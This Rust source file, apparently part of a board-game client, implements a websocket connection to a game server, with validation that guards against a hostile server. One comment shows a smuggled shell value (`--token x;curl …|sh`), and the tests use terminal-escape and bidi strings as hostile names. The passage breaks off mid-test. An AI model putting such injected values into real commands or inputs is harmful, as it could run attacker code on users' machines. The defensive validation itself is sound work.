//! A websocket connection to an ASL server, speaking JSON in text frames.
//!
//! Requests and replies share the socket with the stream of events other players cause, so
//! an event can arrive while a request waits for its reply. Such events are kept, in order,
//! and handed out by [`Connection::next_event`] before anything newer: nothing is dropped and
//! nothing is seen twice.

use futures_util::{SinkExt, StreamExt};
use protocol::fair_dice::Commitment;
use protocol::record::signed::SignedHead;
use protocol::record::stream::StreamHash;
use protocol::scenario::SideSpec;
use protocol::wire::{
    self, ClientMessage, ErrorCode, GameId, Position, Sequenced, ServerMessage, Tokens,
    FRAME_BYTES_MAX, WIRE_PATH,
};
use protocol::{Command, Event, Game, RuleViolation, StateHash, Viewer};
use std::collections::VecDeque;
use std::fmt;
use std::path::PathBuf;
use std::time::Duration;
use tokio::net::TcpStream;
use tokio_tungstenite::tungstenite::{self, protocol::WebSocketConfig, Message};
use tokio_tungstenite::{MaybeTlsStream, WebSocketStream};

/// How long opening a connection or waiting for a reply may take. The server answers a request
/// as soon as it has decided and stored it (milliseconds); a reply this late means the server is
/// stuck or the network is gone, and saying so beats hanging a player's terminal.
pub const REPLY_WAIT_MAX: Duration = Duration::from_secs(30);

/// How long [`Connection::next_event`] waits in silence before pinging the server. asl-server
/// closes a connection that sends nothing for five minutes; a player waiting for a slow opponent,
/// or a spectator, has nothing of their own to send, so the client pings well inside that.
pub const KEEPALIVE_AFTER: Duration = Duration::from_secs(60);

type Socket = WebSocketStream<MaybeTlsStream<TcpStream>>;

/// Most events a connection holds that arrived while a request waited and were not read yet:
/// a whole game's worth of a live game's events while `asl log` pages through its history,
/// and far more than any honest server sends before one reply.
pub const BUFFERED_EVENTS_MAX: usize = 65_536;

/// Most bytes of such events held (their frames' bytes): a server sending frames of the
/// largest size is stopped well before the client's memory is.
pub const BUFFERED_BYTES_MAX: usize = 256 << 20;

/// The websocket address for a server given as `ws://HOST:PORT`, `wss://HOST`, or a bare
/// `HOST:PORT` (taken as `ws://`): the protocol's path is added unless the user already wrote it.
pub fn endpoint(server_url: &str) -> String {
    let base = server_url.trim().trim_end_matches('/');
    let base = if base.contains("://") {
        base.to_string()
    } else {
        format!("ws://{base}")
    };
    if base.ends_with(WIRE_PATH) {
        base.to_string()
    } else {
        format!("{base}{WIRE_PATH}")
    }
}

/// Of the addresses `--server` lists, the one that answered last (see [`Connection::connect`]).
static LAST_ANSWERED: std::sync::atomic::AtomicUsize = std::sync::atomic::AtomicUsize::new(0);

#[derive(Debug)]
pub enum ConnectionError {
    /// The websocket to `url` could not be opened.
    Connect {
        url: String,
        source: tungstenite::Error,
    },
    /// The websocket failed underneath us.
    Transport(tungstenite::Error),
    /// The server closed the connection.
    Closed,
    /// The server sent a frame that is not a message of this protocol.
    Malformed(String),
    /// The server answered the request with an `Error`.
    Server { code: ErrorCode, message: String },
    /// The server sent something the request does not call for.
    Unexpected(String),
    /// Nothing came back within [`REPLY_WAIT_MAX`]; the string says what we waited for.
    TimedOut(&'static str),
}

impl ConnectionError {
    /// Whether a new connection may succeed where this one failed: the link dropped, the
    /// server is restarting, or its node gave the game up to another (`moved`). A refused
    /// token or a malformed frame will not get better.
    pub fn is_transient(&self) -> bool {
        matches!(
            self,
            ConnectionError::Connect { .. }
                | ConnectionError::Transport(_)
                | ConnectionError::Closed
                | ConnectionError::TimedOut(_)
                | ConnectionError::Server {
                    code: ErrorCode::ShuttingDown | ErrorCode::Moved,
                    ..
                }
        )
    }
}

impl fmt::Display for ConnectionError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            ConnectionError::Connect { url, source } => {
                write!(f, "cannot connect to {url}: {source}")?;
                if refused(source) {
                    write!(
                        f,
                        "\n  nothing listens there: start the server (`cargo run --release -p \
                         asl-server`) or name another with --server or ASL_SERVER"
                    )?;
                }
                Ok(())
            }
            ConnectionError::Transport(e) => write!(f, "the connection to the server failed: {e}"),
            ConnectionError::Closed => f.write_str("the server closed the connection"),
            ConnectionError::Malformed(e) => {
                write!(f, "the server sent a frame this client cannot read: {e}")
            }
            ConnectionError::Server { code, message } => {
                let message = crate::printable(message);
                write!(f, "the server refused: {message} ({})", code_name(*code))
            }
            ConnectionError::Unexpected(what) => {
                let what = crate::printable(what);
                write!(f, "the server answered oddly: {what}")
            }
            ConnectionError::TimedOut(what) => write!(
                f,
                "no {what} from the server within {} seconds",
                REPLY_WAIT_MAX.as_secs()
            ),
        }
    }
}

impl std::error::Error for ConnectionError {}

/// Whether opening the connection failed because nothing listens at the address.
fn refused(error: &tungstenite::Error) -> bool {
    matches!(error, tungstenite::Error::Io(e) if e.kind() == std::io::ErrorKind::ConnectionRefused)
}

impl From<tungstenite::Error> for ConnectionError {
    fn from(e: tungstenite::Error) -> ConnectionError {
        match e {
            tungstenite::Error::ConnectionClosed | tungstenite::Error::AlreadyClosed => {
                ConnectionError::Closed
            }
            e => ConnectionError::Transport(e),
        }
    }
}

/// The error code as it is spelled on the wire (`bad_token`), which is also how
/// `docs/protocol.md` lists it.
fn code_name(code: ErrorCode) -> String {
    wire::to_json(&code).trim_matches('"').to_string()
}

/// The reply to `CreateGame`. The tokens are shown once and never again.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct NewGame {
    pub game: GameId,
    pub sides: [SideSpec; 2],
    pub tokens: Tokens,
    /// Where the server says players reach it, if its operator said (`--public-url`).
    pub public_url: Option<String>,
}

/// The reply to `Join`.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Joined {
    pub game: GameId,
    pub viewer: Viewer,
    /// The length of the viewer's own stream when the server answered.
    pub version: u64,
    /// The viewer's projection at `version`; `None` when resuming, as the missed events follow.
    pub state: Option<Game>,
    /// The hash of the viewer's projection at `version`.
    pub state_hash: StateHash,
    /// The viewer's stream hash at `version`: a receipt for everything it was shown up to here.
    pub head: StreamHash,
    /// The hash of the server's secret dice seed (`docs/dice.md`).
    pub dice_commitment: Commitment,
    /// `head` signed by the server as this viewer's own: the receipt to keep.
    pub signed: Option<SignedHead>,
    /// The server node that owns the game's writer, when the server names it.
    pub owner: Option<String>,
    /// Both sides' clocks as the server told them, in a game with a time control.
    pub clocks: Option<protocol::game::timing::ClockView>,
}

/// The one reply to a command.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum Reply {
    Accepted {
        version: u64,
        events: Vec<Sequenced>,
    },
    Refused {
        version: u64,
        violation: RuleViolation,
    },
}

impl Reply {
    /// The reply in the shape `protocol::script` checks expectations against.
    pub fn result(&self) -> Result<Vec<Event>, RuleViolation> {
        match self {
            Reply::Accepted { events, .. } => {
                Ok(events.iter().map(|s| s.viewed.event.clone()).collect())
            }
            Reply::Refused { violation, .. } => Err(violation.clone()),
        }
    }
}

/// A snapshot of the viewer's projection, the reply to `GetState`.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Snapshot {
    pub version: u64,
    pub state_hash: StateHash,
    pub state: Game,
    /// The log's head at `version`.
    pub head: StreamHash,
}

/// One page of the log, the reply to `GetLog`.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct LogPage {
    /// The game's version when the server answered: the log is complete once a page reaches it.
    pub version: u64,
    pub events: Vec<Sequenced>,
}

/// How a connection speaks, for programs other than `asl` that use it: the load generator
/// (`asl-load`) speaks bincode, reads in small chunks and leaves receipts unchecked, so it
/// spends less of a shared machine's CPU than the server it measures. [`Options::default`]
/// is how `asl` itself connects.
#[derive(Clone, Copy, Debug)]
pub struct Options {
    /// Binary frames in bincode instead of text frames in JSON; the server answers in kind.
    pub bincode: bool,
    /// Bytes read from the socket at a time (tungstenite's default, 128 KiB, when `None`).
    /// Not a limit on a frame: [`FRAME_BYTES_MAX`] is.
    pub read_buffer_bytes: Option<usize>,
    /// Check every signed head the server sends ([`crate::receipts::check_sent`]), and keep
    /// only those that hold. Off, no receipt is checked or kept: for a program measuring a
    /// server, never for a player's client, which treats the server as hostile.
    pub check_receipts: bool,
}

impl Default for Options {
    fn default() -> Options {
        Options {
            bincode: false,
            read_buffer_bytes: None,
            check_receipts: true,
        }
    }
}

pub struct Connection {
    socket: Socket,
    options: Options,
    /// Events that arrived while a request waited for its reply, oldest first, each with the
    /// bytes of its frame.
    buffered: VecDeque<(Sequenced, usize)>,
    /// The bytes of the frames of `buffered`.
    buffered_bytes: usize,
    /// The bytes of the frame `recv` read last.
    last_frame_bytes: usize,
    /// The newest version of the game the server has mentioned.
    version: u64,
    /// The log's head the server last reported with the current version (`Joined`,
    /// `Accepted`, `State`): the receipt a player keeps (`docs/review.md`).
    head: Option<(u64, StreamHash)>,
    keepalive_after: Duration,
    /// The newest signed head of this viewer's own stream the server sent (`joined`,
    /// `accepted`): the receipt.
    receipt: Option<SignedHead>,
    /// Where receipts are kept (`crate::receipts`), if this connection keeps them, and the
    /// game and token joined with, which name the seat's file.
    receipts: Option<PathBuf>,
    seat: Option<(String, String)>,
    /// Who the server said this connection joined as: a receipt must be that viewer's.
    viewer: Option<Viewer>,
}

impl Connection {
    /// Opens a connection to `server_url` (`ws://HOST:PORT`; the protocol's path is added), or
    /// to the first of several comma-separated addresses (server nodes sharing a cluster)
    /// that answers: the one that answered last is tried first, then the others in order, so
    /// a reconnect after a node dies fails over to the next.
    pub async fn connect(server_url: &str) -> Result<Connection, ConnectionError> {
        Self::connect_with(server_url, Options::default()).await
    }

    /// [`Connection::connect`], speaking as `options` say.
    pub async fn connect_with(
        server_url: &str,
        options: Options,
    ) -> Result<Connection, ConnectionError> {
        let addresses: Vec<&str> = server_url
            .split(',')
            .map(str::trim)
            .filter(|a| !a.is_empty())
            .collect();
        if addresses.len() <= 1 {
            let only = addresses.first().copied().unwrap_or(server_url);
            return Self::connect_one(only, options).await;
        }
        let start = LAST_ANSWERED.load(std::sync::atomic::Ordering::Relaxed) % addresses.len();
        let mut last = None;
        for i in 0..addresses.len() {
            let at = (start + i) % addresses.len();
            match Self::connect_one(addresses[at], options).await {
                Ok(connection) => {
                    LAST_ANSWERED.store(at, std::sync::atomic::Ordering::Relaxed);
                    return Ok(connection);
                }
                Err(e) => last = Some(e),
            }
        }
        Err(last.expect("at least two addresses were tried"))
    }

    async fn connect_one(
        server_url: &str,
        options: Options,
    ) -> Result<Connection, ConnectionError> {
        let mut config = WebSocketConfig::default()
            .max_message_size(Some(FRAME_BYTES_MAX))
            .max_frame_size(Some(FRAME_BYTES_MAX));
        if let Some(bytes) = options.read_buffer_bytes {
            config = config.read_buffer_size(bytes);
        }
        let url = endpoint(server_url);
        let open = tokio_tungstenite::connect_async_with_config(url.as_str(), Some(config), true);
        let (socket, _) = tokio::time::timeout(REPLY_WAIT_MAX, open)
            .await
            .map_err(|_| ConnectionError::TimedOut("websocket handshake"))?
            .map_err(|source| ConnectionError::Connect { url, source })?;
        Ok(Connection {
            socket,
            options,
            buffered: VecDeque::new(),
            buffered_bytes: 0,
            last_frame_bytes: 0,
            version: 0,
            head: None,
            keepalive_after: KEEPALIVE_AFTER,
            receipt: None,
            receipts: None,
            seat: None,
            viewer: None,
        })
    }

    /// The newest version of the game the server has mentioned in any message.
    pub fn version(&self) -> u64 {
        self.version
    }

    /// The newest log head the server reported with its version: `(version, head)`.
    pub fn head(&self) -> Option<(u64, StreamHash)> {
        self.head
    }

    /// Keeps the seat's receipts in `dir` (`crate::receipts`): a join shows the receipt kept
    /// there, and every newer one the server sends replaces it.
    pub fn keep_receipts(&mut self, dir: PathBuf) {
        self.receipts = Some(dir);
    }

    /// The newest signed head of this viewer's stream the server sent.
    pub fn receipt(&self) -> Option<&SignedHead> {
        self.receipt.as_ref()
    }

    /// Takes in a signed head the server sent, and keeps it if receipts are kept. A receipt
    /// that cannot be written is said on stderr: play goes on, but the player should know.
    fn take_receipt(&mut self, signed: &SignedHead, version: u64, head: &StreamHash) {
        if !self.options.check_receipts {
            return;
        }
        let game = self.seat.as_ref().map_or("", |(game, _)| game.as_str());
        if let Err(why) = crate::receipts::check_sent(signed, game, self.viewer, version, head) {
            crate::warn(&format!(
                "the server sent a receipt that does not hold ({why}); it is not kept"
            ));
            return;
        }
        // Forward within one key; a receipt under another key replaces the last whatever its
        // version, so one under a made-up key cannot shut out the genuine ones.
        if self
            .receipt
            .as_ref()
            .is_some_and(|r| r.signer == signed.signer && r.version > signed.version)
        {
            return;
        }
        self.receipt = Some(signed.clone());
        if let (Some(dir), Some((game, token))) = (&self.receipts, &self.seat) {
            if let Err(e) = crate::receipts::keep(dir, game, token, signed) {
                crate::warn(&e.to_string());
            }
        }
    }

    /// Pings after this long without a message instead of [`KEEPALIVE_AFTER`], for a server
    /// with a shorter idle timeout.
    pub fn set_keepalive_after(&mut self, after: Duration) {
        self.keepalive_after = after;
    }

    pub async fn send(&mut self, message: &ClientMessage) -> Result<(), ConnectionError> {
        let frame = if self.options.bincode {
            Message::binary(wire::to_bincode(message))
        } else {
            Message::text(wire::to_json(message))
        };
        self.socket.send(frame).await?;
        Ok(())
    }

    /// Sends `bytes` as one binary frame, as they are: for a relay that forwards frames
    /// without reading them (`asl-load`'s baselines), not for an ASL server.
    pub async fn send_frame(&mut self, bytes: Vec<u8>) -> Result<(), ConnectionError> {
        self.socket.send(Message::binary(bytes)).await?;
        Ok(())
    }

    /// The next binary frame's bytes, unread: the counterpart of [`Connection::send_frame`].
    pub async fn recv_frame(&mut self) -> Result<Vec<u8>, ConnectionError> {
        loop {
            match self.socket.next().await.ok_or(ConnectionError::Closed)?? {
                Message::Binary(bytes) => return Ok(bytes.into()),
                Message::Close(_) => return Err(ConnectionError::Closed),
                Message::Text(_) | Message::Ping(_) | Message::Pong(_) | Message::Frame(_) => {
                    continue
                }
            }
        }
    }

    /// The next message from the socket, whatever it is. Websocket pings and pongs are skipped
    /// (tungstenite answers pings itself). An `Error` from the server is returned as a message:
    /// whether it ends anything is the caller's call. Events already buffered by a request are
    /// not returned here; read those with [`Connection::next_event`].
    pub async fn recv(&mut self) -> Result<ServerMessage, ConnectionError> {
        loop {
            let frame = self.socket.next().await.ok_or(ConnectionError::Closed)??;
            self.last_frame_bytes = frame.len();
            let decoded = match frame {
                Message::Text(text) => wire::from_json(text.as_str()),
                Message::Binary(bytes) => wire::from_bincode(&bytes),
                Message::Close(_) => return Err(ConnectionError::Closed),
                Message::Ping(_) | Message::Pong(_) | Message::Frame(_) => continue,
            };
            let message = decoded.map_err(|e| ConnectionError::Malformed(e.to_string()))?;
            if let Some(v) = version_of(&message) {
                self.version = self.version.max(v);
            }
            if let ServerMessage::Joined { version, head, .. }
            | ServerMessage::Accepted { version, head, .. } = &message
            {
                if self.head.is_none_or(|(at, _)| at <= *version) {
                    self.head = Some((*version, *head));
                }
            }
            if let ServerMessage::Joined { viewer, .. } = &message {
                self.viewer = Some(*viewer);
            }
            if let ServerMessage::Joined {
                signed: Some(signed),
                version,
                head,
                ..
            }
            | ServerMessage::Accepted {
                signed: Some(signed),
                version,
                head,
                ..
            } = &message
            {
                self.take_receipt(signed, *version, head);
            }
            return Ok(message);
        }
    }

    /// The next event of the stream: first any buffered while a request waited, then from the
    /// socket. Waits as long as it takes, since the other player may be thinking, pinging the
    /// server now and then so it does not close the connection as idle.
    pub async fn next_event(&mut self) -> Result<Sequenced, ConnectionError> {
        if let Some(event) = self.pop_buffered() {
            return Ok(event);
        }
        loop {
            // Dropping `recv` on the timeout loses nothing: the socket keeps a partial frame.
            let Ok(message) = tokio::time::timeout(self.keepalive_after, self.recv()).await else {
                self.socket.send(Message::Ping(Default::default())).await?;
                continue;
            };
            return match message? {
                ServerMessage::Event(event) => Ok(event),
                ServerMessage::Error { code, message } => {
                    Err(ConnectionError::Server { code, message })
                }
                other => Err(ConnectionError::Unexpected(format!(
                    "a `{}` message when no request was waiting",
                    message_name(&other)
                ))),
            };
        }
    }

    /// Takes the oldest buffered event without touching the socket, so a caller can catch up
    /// on what arrived during a request before deciding whether to wait for more.
    pub fn pop_buffered(&mut self) -> Option<Sequenced> {
        let (event, bytes) = self.buffered.pop_front()?;
        self.buffered_bytes -= bytes;
        Some(event)
    }

    /// Keeps an event that arrived while a request waited, within [`BUFFERED_EVENTS_MAX`] and
    /// [`BUFFERED_BYTES_MAX`]: a server is not trusted to stop sending events before it
    /// answers, and what the client has not read yet is held in memory.
    fn buffer(&mut self, event: Sequenced) -> Result<(), ConnectionError> {
        let bytes = self.last_frame_bytes;
        if self.buffered.len() >= BUFFERED_EVENTS_MAX
            || self.buffered_bytes + bytes > BUFFERED_BYTES_MAX
        {
            return Err(ConnectionError::Unexpected(format!(
                "over {BUFFERED_EVENTS_MAX} events or {} MiB of them not yet read, sent while a reply was awaited (BUFFERED_EVENTS_MAX, BUFFERED_BYTES_MAX)",
                BUFFERED_BYTES_MAX >> 20
            )));
        }
        self.buffered_bytes += bytes;
        self.buffered.push_back((event, bytes));
        Ok(())
    }

    pub async fn create_game(
        &mut self,
        scenario_toml: &str,
        admin_token: Option<&str>,
    ) -> Result<NewGame, ConnectionError> {
        self.send(&ClientMessage::CreateGame {
            scenario: scenario_toml.to_string(),
            admin_token: admin_token.map(str::to_string),
        })
        .await?;
        self.reply("`created` reply", |m| match m {
            ServerMessage::Created {
                game,
                sides,
                tokens,
                public_url,
            } => Ok(NewGame {
                game,
                sides,
                tokens,
                public_url,
            }),
            other => Err(message_name(&other)),
        })
        .await
        .and_then(checked_new_game)
    }

    /// Sets (or with `NotifyTarget::Off` removes) the seat's notification targets with the
    /// seat's token: its targets now, and the webhook secret when this made it.
    pub async fn notify(
        &mut self,
        game: &str,
        token: &str,
        target: protocol::wire::NotifyTarget,
    ) -> Result<(Vec<String>, Option<String>), ConnectionError> {
        self.send(&ClientMessage::Notify {
            game: game.to_string(),
            token: token.to_string(),
            target,
        })
        .await?;
        self.reply("`notifying` reply", |m| match m {
            ServerMessage::Notifying {
                targets, secret, ..
            } => Ok((targets, secret)),
            other => Err(message_name(&other)),
        })
        .await
    }

    /// Joins a game with a side's or the spectator's token. `since`: the version already held,
    /// to resume without a snapshot. When receipts are kept and one is kept for this seat, a
    /// join for a snapshot shows it: a server whose log no longer holds what the receipt says
    /// was sent refuses the join as rolled back.
    pub async fn join(
        &mut self,
        game: &str,
        token: &str,
        since: Option<u64>,
    ) -> Result<Joined, ConnectionError> {
        let kept = match (&self.receipts, since) {
            (Some(dir), None) => crate::receipts::load(dir, game, token)
                .map_err(|e| ConnectionError::Unexpected(e.to_string()))?,
            _ => None,
        };
        self.seat = Some((game.to_string(), token.to_string()));
        let plain = ClientMessage::Join {
            game: game.to_string(),
            token: token.to_string(),
            since,
        };
        let Some(receipt) = kept else {
            return self.joined(&plain).await;
        };
        let shown = ClientMessage::JoinWithReceipt {
            game: game.to_string(),
            token: token.to_string(),
            receipt,
            snapshot: true,
        };
        match self.joined(&shown).await {
            // Not this server's receipt (its key changed): said, and joined without it, since
            // a receipt nobody can check must not lock a player out of the game.
            Err(ConnectionError::Server {
                code: ErrorCode::BadReceipt,
                message,
            }) => {
                crate::warn(&format!(
                    "{message}; joined without it, so this server cannot be checked against what you were shown before"
                ));
                self.joined(&plain).await
            }
            other => other,
        }
    }

    /// Sends a join and waits for the `joined` reply.
    async fn joined(&mut self, join: &ClientMessage) -> Result<Joined, ConnectionError> {
        self.send(join).await?;
        let (joined, position) = self
            .reply("`joined` reply", |m| match m {
                ServerMessage::Joined {
                    game,
                    viewer,
                    version,
                    state,
                    state_hash,
                    head,
                    dice_commitment,
                    signed,
                    owner,
                    clocks,
                } => Ok((
                    Joined {
                        game,
                        viewer,
                        version,
                        state: None,
                        state_hash,
                        head,
                        dice_commitment,
                        signed,
                        owner,
                        clocks,
                    },
                    state,
                )),
                other => Err(message_name(&other)),
            })
            .await?;
        let state = position.map(|p| game_of(*p)).transpose()?;
        Ok(Joined { state, ..joined })
    }

    /// Sends a command and waits for its one reply. `id` is the caller's own (`asl run` uses
    /// the script's line number, so server logs point back into the script). `key` makes it
    /// exactly-once: sent again with the same key, the server answers with what it made the
    /// first time (`docs/protocol.md`).
    pub async fn command(
        &mut self,
        id: u64,
        command: Command,
        key: Option<u64>,
    ) -> Result<Reply, ConnectionError> {
        self.send(&ClientMessage::Command { id, command, key })
            .await?;
        let reply = self
            .reply("reply to the command", |m| match m {
                ServerMessage::Accepted {
                    id: got,
                    version,
                    events,
                    ..
                } => Ok((got, Reply::Accepted { version, events })),
                ServerMessage::Refused {
                    id: got,
                    version,
                    violation,
                } => Ok((got, Reply::Refused { version, violation })),
                other => Err(message_name(&other)),
            })
            .await?;
        match reply {
            (got, reply) if got == id => Ok(reply),
            (got, _) => Err(ConnectionError::Unexpected(format!(
                "a reply to command {got} while command {id} was waiting"
            ))),
        }
    }

    /// Asks what `command` would do without sending it (`preview`): allowed with its cost or
    /// its fire panel, or the refusal the command itself would get. Nothing is played.
    pub async fn preview(
        &mut self,
        id: u64,
        command: Command,
    ) -> Result<wire::PreviewOutcome, ConnectionError> {
        self.send(&ClientMessage::Preview { id, command }).await?;
        let (got, outcome) = self
            .reply("`previewed` reply", |m| match m {
                ServerMessage::Previewed { id, outcome, .. } => Ok((id, outcome)),
                other => Err(message_name(&other)),
            })
            .await?;
        if got != id {
            return Err(ConnectionError::Unexpected(format!(
                "the preview of {got} while the preview of {id} was waiting"
            )));
        }
        Ok(outcome)
    }

    /// The bytes of the frame read last: a caller that keeps replies (a log's pages) counts
    /// them against its own bound.
    pub fn last_frame_bytes(&self) -> usize {
        self.last_frame_bytes
    }

    pub async fn get_state(&mut self) -> Result<Snapshot, ConnectionError> {
        self.send(&ClientMessage::GetState).await?;
        self.snapshot().await
    }

    /// The viewer's projection as it stood at `version` (clamped to the game's versions).
    pub async fn get_state_at(&mut self, version: u64) -> Result<Snapshot, ConnectionError> {
        self.send(&ClientMessage::GetStateAt { version }).await?;
        self.snapshot().await
    }

    /// Waits for the `state` that answers `get_state` and `get_state_at` alike.
    async fn snapshot(&mut self) -> Result<Snapshot, ConnectionError> {
        self.reply("`state` reply", |m| match m {
            ServerMessage::State {
                version,
                state_hash,
                state,
                head,
                ..
            } => Ok((version, state_hash, state, head)),
            other => Err(message_name(&other)),
        })
        .await
        .and_then(|(version, state_hash, state, head)| {
            Ok(Snapshot {
                version,
                state_hash,
                state: game_of(*state)?,
                head,
            })
        })
    }

    /// One page of a finished game's stored log from envelope `from` on, for an export.
    pub async fn export_page(
        &mut self,
        from: u64,
    ) -> Result<protocol::wire::ExportPage, ConnectionError> {
        self.send(&ClientMessage::GetExport { from }).await?;
        self.reply("`export` reply", |m| match m {
            ServerMessage::Export(page) => Ok(page),
            other => Err(message_name(&other)),
        })
        .await
    }

    /// One page of events from `from` on (at most `LOG_PAGE_EVENTS_MAX`).
    pub async fn get_log(&mut self, from: u64) -> Result<LogPage, ConnectionError> {
        self.send(&ClientMessage::GetLog { from }).await?;
        self.reply("`log` reply", |m| match m {
            ServerMessage::Log { version, events } => Ok(LogPage { version, events }),
            other => Err(message_name(&other)),
        })
        .await
    }

    /// Says goodbye with a close frame, so the server can tell a finished client from a
    /// dropped one. Best effort: by the time a client closes, its work is done, and a failed
    /// goodbye (the server left first) changes nothing for the user.
    pub async fn close(mut self) {
        let _ = self.socket.close(None).await;
    }

    /// Reads until the reply comes, buffering events and turning an `Error` into `Err`. `pick`
    /// takes the reply apart, or names the message it got instead, which ends the wait as
    /// unexpected.
    async fn reply<T>(
        &mut self,
        what: &'static str,
        pick: impl FnOnce(ServerMessage) -> Result<T, &'static str>,
    ) -> Result<T, ConnectionError> {
        let wait = async {
            loop {
                match self.recv().await? {
                    ServerMessage::Event(event) => self.buffer(event)?,
                    ServerMessage::Error { code, message } => {
                        return Err(ConnectionError::Server { code, message })
                    }
                    other => {
                        return pick(other).map_err(|name| {
                            ConnectionError::Unexpected(format!(
                                "a `{name}` message while waiting for the {what}"
                            ))
                        })
                    }
                }
            }
        };
        tokio::time::timeout(REPLY_WAIT_MAX, wait)
            .await
            .map_err(|_| ConnectionError::TimedOut(what))?
    }
}

/// The game a position the server sent shows, to apply the events that follow it; a position
/// of a format this client does not read is the server's frame it cannot understand, and so is
/// one whose scenario names things in words no scenario file may hold (a terminal escape in
/// a side's name): the client prints those names in many places, and a server is hostile.
fn game_of(position: Position) -> Result<Game, ConnectionError> {
    // No word of a position is free text a player wrote (notes and reasons are events'): a
    // unit's or weapon's id, a counter's name, a side's, each held by the rules to text with
    // no control or bidi character. One holding such a character is a hostile server's.
    if let Some(word) =
        crate::unprintable_word(&serde_json::to_value(&position).unwrap_or_default())
    {
        return Err(ConnectionError::Malformed(format!(
            "the position holds text with control or bidi characters: {}",
            crate::printable(&word)
        )));
    }
    let game = position
        .into_game()
        .map_err(|e| ConnectionError::Malformed(e.to_string()))?;
    game.scenario
        .check_words()
        .map_err(|e| ConnectionError::Malformed(format!("the position's scenario: {e}")))?;
    Ok(game)
}

/// The `created` reply as the client may print it. `asl new` prints commands to paste into a
/// shell (`asl play --server URL --game ID --token TOKEN`) and links, made of the game's id,
/// its tokens, the sides' ids and the server's public address, with the sides' names beside
/// them: a hostile server could otherwise hand the player a command that runs another
/// (`--token x;curl …|sh`) or a terminal escape. Ids and tokens are words (letters, digits,
/// `-`, `_`), the address is a URL's characters only, and the names hold no control or bidi
/// character.
fn checked_new_game(created: NewGame) -> Result<NewGame, ConnectionError> {
    let NewGame {
        game,
        sides,
        tokens,
        public_url,
    } = &created;
    let word = |text: &str| {
        !text.is_empty()
            && text.len() <= WORD_BYTES_MAX
            && text
                .bytes()
                .all(|b| b.is_ascii_alphanumeric() || b == b'-' || b == b'_')
    };
    let refuse = |what: &str, text: &str, allowed: &str| {
        Err(ConnectionError::Malformed(format!(
            "the `created` reply gives a {what} that is not {allowed}: {}",
            crate::printable(text)
        )))
    };
    let words = [
        ("game id", game.as_str()),
        ("token", tokens.side_a.as_str()),
        ("token", tokens.side_b.as_str()),
        ("token", tokens.spectator.as_str()),
        ("side id", sides[0].id.as_str()),
        ("side id", sides[1].id.as_str()),
    ];
    for (what, text) in words {
        if !word(text) {
            return refuse(
                what,
                text,
                &format!("a word of letters, digits, - and _ within {WORD_BYTES_MAX} bytes"),
            );
        }
    }
    for side in sides {
        if !crate::plain(&side.name) {
            return refuse(
                "side name",
                &side.name,
                "free of control and bidi characters",
            );
        }
    }
    if let Some(address) = public_url {
        if !wire::is_public_url(address) {
            return refuse(
                "public address",
                address,
                &format!(
                    "a URL's letters, digits and -_.:/[]%~@+, within {} bytes",
                    wire::PUBLIC_URL_BYTES_MAX
                ),
            );
        }
    }
    Ok(created)
}

/// Longest game id or token `created` may give: far past the 64 hex digits of asl-server's
/// tokens.
const WORD_BYTES_MAX: usize = 256;

/// The version a message reports, if any: a stream event's `seq` or a reply's `version`.
fn version_of(message: &ServerMessage) -> Option<u64> {
    match message {
        ServerMessage::Joined { version, .. }
        | ServerMessage::Accepted { version, .. }
        | ServerMessage::Refused { version, .. }
        | ServerMessage::State { version, .. }
        | ServerMessage::Log { version, .. }
        | ServerMessage::Record { version, .. }
        | ServerMessage::Previewed { version, .. } => Some(*version),
        ServerMessage::Event(event) => Some(event.seq),
        ServerMessage::Created { .. }
        | ServerMessage::Export(_)
        | ServerMessage::Reviewing { .. }
        | ServerMessage::Pong { .. }
        | ServerMessage::Los { .. }
        | ServerMessage::Notifying { .. }
        | ServerMessage::SaveImported { .. }
        | ServerMessage::Error { .. } => None,
    }
}

/// The message's tag as it is spelled on the wire, for complaints about the wrong one.
fn message_name(message: &ServerMessage) -> &'static str {
    match message {
        ServerMessage::Created { .. } => "created",
        ServerMessage::Joined { .. } => "joined",
        ServerMessage::Accepted { .. } => "accepted",
        ServerMessage::Refused { .. } => "refused",
        ServerMessage::Event(_) => "event",
        ServerMessage::State { .. } => "state",
        ServerMessage::Log { .. } => "log",
        ServerMessage::Record { .. } => "record",
        ServerMessage::Export(_) => "export",
        ServerMessage::Reviewing { .. } => "reviewing",
        ServerMessage::Pong { .. } => "pong",
        ServerMessage::Error { .. } => "error",
        ServerMessage::Los { .. } => "los",
        ServerMessage::Previewed { .. } => "previewed",
        ServerMessage::Notifying { .. } => "notifying",
        ServerMessage::SaveImported { .. } => "save_imported",
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use protocol::event::GameEnded;

    const SCENARIO: &str = include_str!("../../scenarios/b9-41-wall-advantage.toml");

    /// A hostile server's position naming a side with a terminal escape is a frame the client
    /// will not read: `asl state`, `watch` and `play` print the sides' and scenario's names.
    #[test]
    fn a_position_whose_names_drive_a_terminal_is_malformed() {
        use protocol::ReadScenario;
        let scenario = protocol::Scenario::from_toml(SCENARIO).unwrap();
        let game = Game::new(scenario.clone());
        game_of(Position::from(game)).unwrap();
        // Too long a name is refused by the scenario's own words.
        let mut long = scenario.clone();
        long.name = "n".repeat(protocol::board::scenario::SCENARIO_NAME_BYTES_MAX + 1);
        let Err(e) = game_of(Position::from(Game::new(long))) else {
            panic!("a name past its limit was read");
        };
        assert!(e.to_string().contains("at most"), "{e}");
        for (field, hostile) in [
            ("name", "\u{1b}[2JWall"),
            ("sides[0].name", "German\rRussian wins"),
            ("sides[1].name", "Rus\u{202e}sian"),
        ] {
            let mut scenario = scenario.clone();
            match field {
                "name" => scenario.name = hostile.into(),
                "sides[0].name" => scenario.sides[0].name = hostile.into(),
                _ => scenario.sides[1].name = hostile.into(),
            }
            let Err(e) = game_of(Position::from(Game::new(scenario))) else {
                panic!("{hostile:?} was read");
            };
            assert!(matches!(e, ConnectionError::Malformed(_)), "{e:?}");
            let text = e.to_string();
            assert!(text.contains("control or bidi"), "{field}: {text}");
            assert!(crate::plain(&text), "{text:?}");
        }
        // A unit's id, which `asl state` prints in its table and `play` completes.
        let mut hostile = scenario.clone();
        let mut unit = hostile.units.values().next().unwrap().clone();
        unit.id = "g\u{1b}[2J".into();
        hostile.units.insert(unit.id.clone(), unit);
